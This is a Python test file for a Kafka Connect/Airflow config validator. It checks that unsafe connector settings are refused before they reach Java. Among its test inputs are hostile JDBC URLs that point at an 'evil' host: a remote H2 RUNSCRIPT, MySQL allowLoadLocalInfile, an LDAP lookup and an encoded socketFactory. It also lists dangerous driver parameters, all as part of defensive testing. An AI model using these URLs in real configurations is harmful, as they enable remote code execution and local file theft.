"""What is refused in configurations of hosted connectors before Java is asked."""

from __future__ import annotations

from pathlib import Path

import pytest

from airflow_kconnect.validation.before_variables import inspect_without_references
from airflow_kconnect.validation.connector import Inspection, inspect_connector
from airflow_kconnect.worker_config.keys import WorkerConfig
from airflow_kconnect.worker_config.override_policy import ALLOWLIST, POLICY, without_ignored_overrides
from tests.support.connect.java_plugins import source_jar

ALL = {POLICY: "All"}


@pytest.fixture
def worker(tmp_path: Path) -> WorkerConfig:
    """Finds the Java source `a.Source`."""
    source_jar(tmp_path / "a" / "a-1.0.jar")
    return WorkerConfig.from_props({"bootstrap.servers": "kafka:9092", "plugin.path": str(tmp_path)})


def inspected(worker: WorkerConfig, **more: str) -> Inspection:
    return inspect_connector({"name": "s", "connector.class": "a.Source", **more}, worker=worker)


@pytest.fixture
def debezium(tmp_path: Path, worker: WorkerConfig) -> str:
    """The name of a class of Debezium that the worker finds."""
    name = "io.debezium.connector.mysql.MySqlConnector"
    source_jar(tmp_path / "debezium" / "debezium-1.0.jar", name)
    return name


@pytest.mark.parametrize("text", ["${kconnect:KCONNECT_HOSTED_2}", "a${kconnect:x:y}b", "${kconnect:${v:a}"])
def test_the_runs_own_provider_of_secrets_cannot_be_named(worker: WorkerConfig, text: str) -> None:
    key = "transforms.i.static.value"
    [message] = inspected(worker, **{key: text}).errors[key]
    assert message == "has ${kconnect:...}: this config provider is the run's own; use another one"
    config = {"name": "s", "connector.class": "a.Source", key: f"{text}${{file:/x:y}}"}
    assert key in inspect_without_references(config, worker.props).errors


def test_other_texts_may_have_dollars_and_braces(worker: WorkerConfig) -> None:
    assert not inspected(worker, some_key="${other:x} ${kconnect} kconnect:").errors


@pytest.mark.parametrize("key", ["acks", "interceptor.classes", "enable.idempotence", "partitioner.class"])
def test_overrides_that_runs_set_themselves_are_left_out_with_a_warning(worker: WorkerConfig, key: str) -> None:
    override = f"producer.override.{key}"
    found = inspected(worker, **{override: "1"})
    assert not found.errors
    assert [text for text in found.warnings if text.startswith(f"`{override}` is ignored")]
    assert override not in without_ignored_overrides(found.props, worker.props)


@pytest.mark.parametrize("keys", [ALL, {ALLOWLIST: "acks"}])
def test_a_worker_that_names_them_gives_them_their_effect(worker: WorkerConfig, keys: dict[str, str]) -> None:
    props = {"producer.override.acks": "1"}
    assert without_ignored_overrides(props, {**worker.props, **keys}) == props


@pytest.mark.parametrize("client", ["producer", "consumer"])
def test_serializers_are_connects_whatever_the_worker_allows(worker: WorkerConfig, client: str) -> None:
    props = {f"{client}.override.key.serializer": "com.example.Other"}
    assert without_ignored_overrides(props, {**worker.props, **ALL}) == {}
    assert without_ignored_overrides(props, {**worker.props, ALLOWLIST: "key.serializer"}) == {}


def test_the_settings_of_the_guard_of_topics_cannot_be_overridden(worker: WorkerConfig) -> None:
    key = "producer.override.internal.kconnect.topics"
    errors = inspected(WorkerConfig.from_props({**worker.props, **ALL}), **{key: "none"}).errors
    assert "is refused" in errors[key][0]


@pytest.mark.parametrize(
    ("key", "topic"),
    [
        ("topic", "connect-configs"),
        ("schema.history.internal.kafka.topic", "connect-status"),
        ("iceberg.control.topic", "kconnect-other-configs"),
        ("offsets.storage.topic", "connect-configs"),
    ],
)
def test_a_key_that_has_records_written_to_an_internal_topic_is_refused(
    worker: WorkerConfig, key: str, topic: str
) -> None:
    assert list(inspected(worker, **{key: topic}).errors) == [key]


def test_a_source_may_have_an_offset_topic_of_its_own(worker: WorkerConfig) -> None:
    assert not inspected(worker, **{"offsets.storage.topic": "mine"}).errors
    assert not inspected(worker, **{"offsets.storage.topic": "connect-offsets"}).errors


@pytest.mark.parametrize(
    ("key", "text", "named"),
    [
        ("connection.url", "jdbc:mysql://evil/x?allowLoadLocalInfile=true", "allowLoadLocalInfile"),
        ("database.url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "INIT"),
        ("any.key", "jdbc:postgresql://h/d?socket%46actory=a.B", "socketFactory"),
        ("iceberg.catalog.uri", "JDBC:oracle:thin:@ldap://evil/x", "ldap://"),
    ],
)
def test_what_has_a_jdbc_driver_load_code_is_refused_wherever_a_url_is(
    worker: WorkerConfig, key: str, text: str, named: str
) -> None:
    [message] = inspected(worker, **{key: text}).errors[key]
    assert message == f"has what can load code or use files in a JDBC driver: {named}; remove it"


@pytest.mark.parametrize("key", ["driver.allowLoadLocalInfile", "database.sslfactory", "hibernate.c3p0.classPath"])
def test_keys_that_become_parameters_of_debeziums_drivers_are_checked_too(
    worker: WorkerConfig, debezium: str, key: str
) -> None:
    config = {"name": "d", "connector.class": debezium, "database.hostname": "db", key: "x"}
    assert list(inspect_connector(config, worker=worker).errors) == [key]
    assert not inspected(worker, **{key: "x"}).errors  # of others they are just keys


def test_keys_next_to_a_jdbc_url_become_parameters(worker: WorkerConfig) -> None:
    key = "connection.autoDeserialize"
    assert list(inspected(worker, **{key: "true", "connection.url": "jdbc:mysql://db/x"}).errors) == [key]
    assert not inspected(worker, **{key: "true", "connection.url": "http://db"}).errors


@pytest.mark.parametrize(
    ("key", "text"),
    [
        ("connection.url", "jdbc:postgresql://db/shop?user=me&password=p&sslmode=require"),
        ("connection.url", "jdbc:sqlserver://db:1433;databaseName=shop;encrypt=true"),
        ("topic", "init=1"),
    ],
)
def test_ordinary_urls_and_texts_are_no_error(worker: WorkerConfig, key: str, text: str) -> None:
    assert not inspected(worker, **{key: text}).errors
